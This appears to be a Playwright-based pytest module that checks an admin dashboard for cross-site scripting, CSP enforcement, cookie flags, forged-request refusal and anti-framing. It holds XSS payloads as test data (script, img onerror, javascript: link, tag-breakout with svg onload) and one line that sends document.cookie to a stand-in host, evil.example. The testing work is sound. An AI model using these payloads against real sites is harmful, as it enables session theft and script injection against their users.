"""`<script>` in all that the admin pages show, seen by a real browser: inert (rows 34 and 36)."""

from __future__ import annotations

import http.client
import re
from typing import Any

import pytest

from tests.faults.service import Service

browser = pytest.importorskip("tests.browser.conftest", reason="playwright is not installed")
expect = browser.playwright.expect
visit, _expectations = browser.visit, browser._expectations

pytestmark = [pytest.mark.faults(34, 36), pytest.mark.slow, pytest.mark.browser]

SCRIPT = "<script>window.broken=1</script>"
IMAGE = "<img src=x onerror=window.broken=2>"
LINK = "<a href='javascript:window.broken=3'>x</a>"
CLOSING = '"></textarea></script><svg onload=window.broken=4>'
FLAG = {
    "state": "ENABLED",
    "variants": {f"on{SCRIPT}": "x"},
    "defaultVariant": f"on{SCRIPT}",
    "metadata": {"description": f"{SCRIPT}{IMAGE}{CLOSING}"},
}


def log_in(visitor: Any, place: str = "") -> Any:
    page = visitor.open(f"/admin/{place}").page
    page.get_by_label("Admin key").fill(visitor.service.admin_key)
    page.get_by_role("button", name="Enter").click()
    expect(page.get_by_role("navigation", name="Sections")).to_be_visible()
    return page


def assert_inert(page: Any) -> None:
    assert page.evaluate("window.broken") is None
    shown = page.evaluate(
        "document.querySelector('main').querySelectorAll('script,img,a[href^=j]').length"
    )
    assert shown == 0


def test_what_people_and_administrators_wrote_is_text(service: Service, visit: Any) -> None:
    person = service.guest()
    name = f"My name is {SCRIPT} and I love {LINK}."
    told = service.chat(person, name).json
    message = f"{SCRIPT}{IMAGE} \u202eevil\u202c {CLOSING}"
    seen = message.replace("\u202e", "").replace("\u202c", "")
    reply = service.chat(person, message, conversation_id=told["conversation_id"]).json
    comment = f"{IMAGE}{CLOSING}"
    assert service.react(person, reply["reply_id"], "love", comment=comment).status == 200
    put = service.admin("PUT", "/admin/v1/flags/odd", FLAG)
    assert put.status in (200, 201), put.text

    visitor = visit()
    page = log_in(visitor)
    row = page.locator(f"#events tr[data-reply='{reply['reply_id']}']")
    expect(row.locator(".context").last).to_have_text(seen)
    expect(row.locator(".comment")).to_have_text(f"“{comment}”")
    assert row.locator("[dir=auto]").count() >= 3  # each text has its own direction
    assert_inert(page)
    page.goto(f"{service.url}/admin/#/explain/{reply['reply_id']}")
    expect(page.get_by_label("What was said").locator(".context").last).to_have_text(seen)
    assert_inert(page)
    page.goto(f"{service.url}/admin/#/flags")
    card = page.locator(".flag[data-flag='odd']")
    expect(card).to_contain_text(SCRIPT)
    expect(card).to_contain_text("onerror")
    assert_inert(page)
    card.get_by_role("button", name="Edit odd").click()
    assert SCRIPT in card.get_by_role("textbox").input_value()
    assert_inert(page)
    page.goto(f"{service.url}/admin/?q={SCRIPT}#/explain/{IMAGE}")
    expect(page.get_by_text("There is no such reply.")).to_be_visible()
    assert_inert(page)
    visitor.forget_complaints()  # the browser reports the 404 of the last step
    service.admin("DELETE", "/admin/v1/flags/odd")


def test_the_policy_stops_what_would_get_in(service: Service, visit: Any) -> None:
    answer = service.call("GET", "/admin/")
    policy = answer.headers["content-security-policy"]
    assert "default-src 'none'" in policy
    assert "unsafe" not in policy
    assert re.search(r"script-src 'nonce-[\w-]{20,}'", policy)
    visitor = visit()
    page = log_in(visitor)
    for attempt in (
        "() => { const s = document.createElement('script'); s.append('window.broken=5');"
        " document.body.append(s); }",
        "() => { document.body.innerHTML = '<img src=x onerror=window.broken=6>'; }",
        "() => { document.body.setAttribute('onclick', 'window.broken=7');"
        " document.body.click(); }",
        "() => fetch('https://evil.example/?' + document.cookie)",
    ):
        page.evaluate(f"async () => {{ try {{ await ({attempt})(); }} catch (e) {{}} }}")
    assert page.evaluate("window.broken") is None
    assert page.evaluate("document.cookie") == ""
    assert visitor.complaints  # each was reported as a violation
    visitor.forget_complaints()


def test_the_key_is_kept_nowhere_and_a_forged_post_is_403(service: Service, visit: Any) -> None:
    visitor = visit()
    page = log_in(visitor, "#/flags")
    kept = page.evaluate(
        "JSON.stringify([{...localStorage}, {...sessionStorage}, document.cookie])"
    )
    assert service.admin_key not in kept
    (cookie,) = visitor.context.cookies()
    assert cookie["httpOnly"]
    assert cookie["sameSite"] == "Strict"
    assert cookie["path"] == "/admin"
    header = {"Cookie": f"{cookie['name']}={cookie['value']}"}
    for method, path, body in (
        ("POST", "/admin/v1/flags/generator/toggle", {"state": "DISABLED"}),
        ("PUT", "/admin/v1/flags/forged", FLAG),
        ("POST", "/admin/v1/reactions", {"reactions": []}),
        ("DELETE", "/admin/v1/flags/generator", None),
        ("DELETE", "/admin/v1/session", None),
    ):
        answer = service.call(method, path, body=body, headers=header)
        assert answer.status == 403, (method, path, answer.text)
        assert answer.json["type"] == "urn:kindred:problem:forgery-refused"
    assert "forged" not in service.admin("GET", "/admin/v1/flags").json["flags"]

    # A page of another site (the same machine by another name) gets neither cookie nor answer.
    elsewhere = visitor.context.new_page()
    elsewhere.goto(f"http://localhost:{service.port}/livez")
    status = elsewhere.evaluate(
        "url => fetch(url, {method: 'POST', mode: 'no-cors', credentials: 'include',"
        " headers: {'Content-Type': 'text/plain'}, body: '{}'}).then(r => r.type, e => 'refused')",
        f"{service.url}/admin/v1/flags/generator/toggle",
    )
    assert status in ("refused", "opaque")
    state = service.admin("GET", "/admin/v1/flags/generator").json.get("state", "ENABLED")
    assert state == "ENABLED"

    page.get_by_role("button", name="Log out").click()
    expect(page.get_by_label("Admin key")).to_be_visible()
    assert service.call("GET", "/admin/v1/flags", headers=header).status == 401


def test_the_page_cannot_be_framed(service: Service) -> None:
    connection = http.client.HTTPConnection("127.0.0.1", service.port, timeout=30)
    try:
        connection.request("GET", "/admin/")
        answer = connection.getresponse()
        answer.read()
        assert answer.headers["X-Frame-Options"] == "DENY"
        assert "frame-ancestors 'none'" in str(answer.headers["Content-Security-Policy"])
    finally:
        connection.close()
